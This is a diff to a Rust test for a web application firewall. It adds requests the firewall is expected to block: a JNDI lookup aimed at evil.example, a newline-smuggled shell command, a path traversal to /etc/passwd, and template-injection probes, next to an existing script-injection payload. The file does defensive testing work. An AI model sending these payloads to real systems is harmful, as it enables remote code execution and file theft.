@@ -237,6 +237,21 @@ async fn an_attack_outside_the_named_fields_is_refused_r_waf_4() {
             "application/x-www-form-urlencoded",
             "comment=hi&mood=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
         ),
+        // Inside a named field, what entity encoding leaves as it was: a lookup a Java
+        // backend's logger expands, a shell command, a traversal, a template.
+        (
+            "application/json",
+            r#"{"note":[{"text":"${jndi:ldap://evil.example/a}"}]}"#,
+        ),
+        ("application/json", r#"{"note":[{"text":"ok\nid\n"}]}"#),
+        (
+            "application/x-www-form-urlencoded",
+            "comment=..%2F..%2F..%2Fetc%2Fpasswd",
+        ),
+        (
+            "application/json",
+            r#"{"note":[{"text":"{{7*7}}{{config.items()}}"}]}"#,
+        ),
     ] {
         let reply = send(&s, "POST", "/diary/4", content_type, body).await;
         assert_eq!(reply.status, 403, "{body}: {reply:?}");
